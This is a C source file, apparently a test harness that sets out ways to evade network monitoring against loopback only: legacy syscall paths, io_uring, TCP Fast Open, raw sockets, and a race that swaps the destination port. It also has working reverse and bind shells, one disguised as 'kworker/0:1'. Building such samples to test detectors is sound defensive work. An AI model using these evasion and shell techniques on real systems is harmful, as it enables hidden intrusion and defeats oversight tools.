// SPDX-License-Identifier: Apache-2.0
// Connections to 127.0.0.1, and shells that are put on them.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/vm_sockets.h>
#include <netinet/tcp.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "evade.h"

static struct sockaddr_in to(const char* port) {
  return (struct sockaddr_in){.sin_family = AF_INET,
                              .sin_port = htons((uint16_t)atoi(port)),
                              .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
}

static int make_socket(int type) {
  int fd = socket(AF_INET, type, 0);
  need(fd >= 0, "socket");
  return fd;
}

int connected_to(const char* port) {
  struct sockaddr_in peer = to(port);
  int fd = make_socket(SOCK_STREAM);
  need(connect(fd, (void*)&peer, sizeof peer) == 0, "connect");
  return fd;
}

static void connect_plain(char** args) { connected_to(args[0]); }

static void connect_int80(char** args) {
  struct sockaddr_in peer = to(args[0]);
  need(int80(362, (uint32_t)make_socket(SOCK_STREAM), low(&peer, sizeof peer), sizeof peer, 0, 0) ==
           0,
       "connect");
}

static void connect_socketcall(char** args) {
  struct sockaddr_in peer = to(args[0]);
  uint32_t words[3] = {(uint32_t)make_socket(SOCK_STREAM), low(&peer, sizeof peer), sizeof peer};
  need(int80(102, 3, low(words, sizeof words), 0, 0, 0) == 0, "socketcall");
}

static void connect_by_uring(char** args, bool sqpoll) {
  struct sockaddr_in peer = to(args[0]);
  const struct io_uring_sqe request = {.opcode = IORING_OP_CONNECT,
                                       .fd = make_socket(SOCK_STREAM),
                                       .addr = (uint64_t)(uintptr_t)&peer,
                                       .off = sizeof peer};
  need(by_uring(sqpoll, &request) == 0, "io_uring: connect");
}
static void connect_uring(char** args) { connect_by_uring(args, false); }
static void connect_sqpoll(char** args) { connect_by_uring(args, true); }

static void connect_fastopen(char** args) {
  struct sockaddr_in peer = to(args[0]);
  need(sendto(make_socket(SOCK_STREAM), "x", 1, MSG_FASTOPEN, (void*)&peer, sizeof peer) == 1,
       "sendto");
}

// The connection is made by what is sent, after connect(2) has done nothing.
static void connect_fastopen_later(char** args) {
  struct sockaddr_in peer = to(args[0]);
  int fd = make_socket(SOCK_STREAM), on = 1;
  need(setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on) == 0,
       "TCP_FASTOPEN_CONNECT");
  need(connect(fd, (void*)&peer, sizeof peer) == 0 && write(fd, "x", 1) == 1, "connect");
}

static struct sockaddr_in shared_peer;

static void* swap_ports(void* ports) {
  for (;;) {
    atomic_store((_Atomic uint16_t*)&shared_peer.sin_port, ((uint16_t*)ports)[0]);
    atomic_store((_Atomic uint16_t*)&shared_peer.sin_port, ((uint16_t*)ports)[1]);
  }
  return NULL;
}

// args: the port, and the decoy's.
static void connect_rewritten(char** args) {
  uint16_t ports[2] = {to(args[1]).sin_port, to(args[0]).sin_port};
  shared_peer = to(args[1]);
  disturb_with(swap_ports, ports);
  for (int i = 0; i < 100000; ++i) {
    struct sockaddr_in got;
    socklen_t size = sizeof got;
    int fd = make_socket(SOCK_STREAM);
    bool hit = connect(fd, (void*)&shared_peer, sizeof shared_peer) == 0 &&
               getpeername(fd, (void*)&got, &size) == 0 && got.sin_port == ports[1];
    close(fd);
    if (hit) return;
  }
  need(false, "the port was never hit");
}

static void datagram_plain(char** args) {
  struct sockaddr_in peer = to(args[0]);
  int fd = make_socket(SOCK_DGRAM);
  need(connect(fd, (void*)&peer, sizeof peer) == 0 && send(fd, "x", 1, 0) == 1, "connect");
}

static void datagram_sendto(char** args) {
  struct sockaddr_in peer = to(args[0]);
  need(sendto(make_socket(SOCK_DGRAM), "x", 1, 0, (void*)&peer, sizeof peer) == 1, "sendto");
}

static void datagram_sendmsg(char** args) {
  struct sockaddr_in peer = to(args[0]);
  struct iovec part = {"x", 1};
  const struct msghdr message = {
      .msg_name = &peer, .msg_namelen = sizeof peer, .msg_iov = &part, .msg_iovlen = 1};
  need(sendmsg(make_socket(SOCK_DGRAM), &message, 0) == 1, "sendmsg");
}

static void datagram_sendmmsg(char** args) {
  struct sockaddr_in peer = to(args[0]);
  struct iovec part = {"x", 1};
  struct mmsghdr message = {
      .msg_hdr = {
          .msg_name = &peer, .msg_namelen = sizeof peer, .msg_iov = &part, .msg_iovlen = 1}};
  need(sendmmsg(make_socket(SOCK_DGRAM), &message, 1, 0) == 1, "sendmmsg");
}

static void datagram_raw(char** args) {
  struct sockaddr_in peer = to(args[0]);
  const uint16_t datagram[5] = {htons(9), peer.sin_port, htons(9), 0, 0};
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
  need(fd >= 0 && sendto(fd, datagram, 9, 0, (void*)&peer, sizeof peer) == 9, "raw socket");
}

static void datagram_socketcall(char** args) {
  struct sockaddr_in peer = to(args[0]);
  uint32_t words[6] = {(uint32_t)make_socket(SOCK_DGRAM), low_text("x"), 1, 0,
                       low(&peer, sizeof peer),           sizeof peer};
  need(int80(102, 11 /* SYS_SENDTO */, low(words, sizeof words), 0, 0, 0) == 1, "socketcall");
}

static void datagram_by_uring(char** args, bool sqpoll) {
  struct sockaddr_in peer = to(args[0]);
  struct iovec part = {"x", 1};
  struct msghdr message = {
      .msg_name = &peer, .msg_namelen = sizeof peer, .msg_iov = &part, .msg_iovlen = 1};
  const struct io_uring_sqe request = {.opcode = IORING_OP_SENDMSG,
                                       .fd = make_socket(SOCK_DGRAM),
                                       .addr = (uint64_t)(uintptr_t)&message,
                                       .len = 1};
  need(by_uring(sqpoll, &request) == 1, "io_uring: sendmsg");
}
static void datagram_uring(char** args) { datagram_by_uring(args, false); }
static void datagram_sqpoll(char** args) { datagram_by_uring(args, true); }

// args of all these: a port of this machine itself. Nobody need be there: an attempt counts.
static struct sockaddr_vm to_itself(const char* port) {
  return (struct sockaddr_vm){.svm_family = AF_VSOCK,
                              .svm_cid = 1,  // VMADDR_CID_LOCAL
                              .svm_port = (unsigned)atoi(port)};
}

static int make_vsock(void) {
  int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_NONBLOCK, 0);
  need(fd >= 0, "a vsock");
  return fd;
}

static void vsock_plain(char** args) {
  struct sockaddr_vm peer = to_itself(args[0]);
  connect(make_vsock(), (void*)&peer, sizeof peer);
}

static void vsock_int80(char** args) {
  struct sockaddr_vm peer = to_itself(args[0]);
  int80(362, (uint32_t)make_vsock(), low(&peer, sizeof peer), sizeof peer, 0, 0);
}

static void vsock_socketcall(char** args) {
  struct sockaddr_vm peer = to_itself(args[0]);
  uint32_t words[3] = {(uint32_t)make_vsock(), low(&peer, sizeof peer), sizeof peer};
  int80(102, 3, low(words, sizeof words), 0, 0, 0);
}

static void on_streams(const char* port) {
  int fd = connected_to(port);
  for (int stream = 0; stream < 3; ++stream) need(dup2(fd, stream) == stream, "dup2");
}

static void become_shell(void) {
  execl("/bin/sh", "sh", (char*)NULL);
  need(false, "exec");
}

static void shell_dup2(char** args) {
  on_streams(args[0]);
  become_shell();
}

static void shell_dup(char** args) {
  for (int stream = 0; stream < 3; ++stream) close(stream);
  int fd = connected_to(args[0]);
  need(fd == 0 && dup(fd) == 1 && dup(fd) == 2, "dup");
  become_shell();
}

static void shell_fcntl(char** args) {
  int fd = connected_to(args[0]);
  for (int stream = 0; stream < 3; ++stream) {
    close(stream);
    need(fcntl(fd, F_DUPFD, stream) == stream, "fcntl");
  }
  become_shell();
}

static void shell_int80(char** args) {
  uint32_t fd = (uint32_t)connected_to(args[0]);
  for (uint32_t stream = 0; stream < 3; ++stream) need(int80(63, fd, stream, 0, 0, 0) >= 0, "dup2");
  become_shell();
}

// args of both: the port, the shell.
static void shell_renamed(char** args) {
  on_streams(args[0]);
  execl(args[1], "kworker/0:1", (char*)NULL);
  need(false, "exec");
}

static void shell_loaded(char** args) {
  on_streams(args[0]);
  execl("/lib64/ld-linux-x86-64.so.2", "ld-linux-x86-64.so.2", args[1], (char*)NULL);
  need(false, "exec");
}

// The socket is connected by a child and comes over a unix socket.
static void shell_passed(char** args) {
  int ends[2];
  char byte = 0;
  union {
    char bytes[CMSG_SPACE(sizeof(int))];
    struct cmsghdr aligned;
  } control;
  struct iovec part = {&byte, 1};
  struct msghdr message = {
      .msg_iov = &part, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
  need(socketpair(AF_UNIX, SOCK_STREAM, 0, ends) == 0, "socketpair");
  pid_t child = fork();
  if (child == 0) {
    int fd = connected_to(args[0]);
    control.aligned = (struct cmsghdr){CMSG_LEN(sizeof fd), SOL_SOCKET, SCM_RIGHTS};
    memcpy(CMSG_DATA(&control.aligned), &fd, sizeof fd);
    need(sendmsg(ends[1], &message, 0) == 1, "sendmsg");
    _exit(0);
  }
  need(recvmsg(ends[0], &message, 0) == 1, "recvmsg");
  int fd = -1;
  memcpy(&fd, CMSG_DATA(&control.aligned), sizeof fd);
  for (int stream = 0; stream < 3; ++stream) need(dup2(fd, stream) == stream, "dup2");
  become_shell();
}

static int listen_on(const char* port) {
  struct sockaddr_in own = to(port);
  int on = 1, fd = make_socket(SOCK_STREAM);
  setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
  need(bind(fd, (void*)&own, sizeof own) == 0 && listen(fd, 4096) == 0, "listen");
  return fd;
}

// A peer for the others: takes every connection, and ends it.
static void serve(char** args) {
  for (int fd = listen_on(args[0]);;) {
    int peer = accept(fd, NULL, NULL);
    need(peer >= 0, "accept");
    close(peer);
  }
}

// args: the port to listen on.
static void shell_listen(char** args) {
  int peer = accept(listen_on(args[0]), NULL, NULL);
  need(peer >= 0, "accept");
  for (int stream = 0; stream < 3; ++stream) need(dup2(peer, stream) == stream, "dup2");
  become_shell();
}

const struct way network_ways[] = {
    {"connect", connect_plain},
    {"connect-int80", connect_int80},
    {"connect-socketcall", connect_socketcall},
    {"connect-uring", connect_uring},
    {"connect-sqpoll", connect_sqpoll},
    {"connect-fastopen", connect_fastopen},
    {"connect-fastopen-later", connect_fastopen_later},
    {"connect-rewritten", connect_rewritten},
    {"datagram", datagram_plain},
    {"datagram-sendto", datagram_sendto},
    {"datagram-sendmsg", datagram_sendmsg},
    {"datagram-sendmmsg", datagram_sendmmsg},
    {"datagram-raw", datagram_raw},
    {"datagram-socketcall", datagram_socketcall},
    {"datagram-uring", datagram_uring},
    {"datagram-sqpoll", datagram_sqpoll},
    {"vsock", vsock_plain},
    {"vsock-int80", vsock_int80},
    {"vsock-socketcall", vsock_socketcall},
    {"serve", serve},
    {"shell-dup2", shell_dup2},
    {"shell-dup", shell_dup},
    {"shell-fcntl", shell_fcntl},
    {"shell-int80", shell_int80},
    {"shell-passed", shell_passed},
    {"shell-renamed", shell_renamed},
    {"shell-loaded", shell_loaded},
    {"shell-listen", shell_listen},
    {NULL, NULL},
};
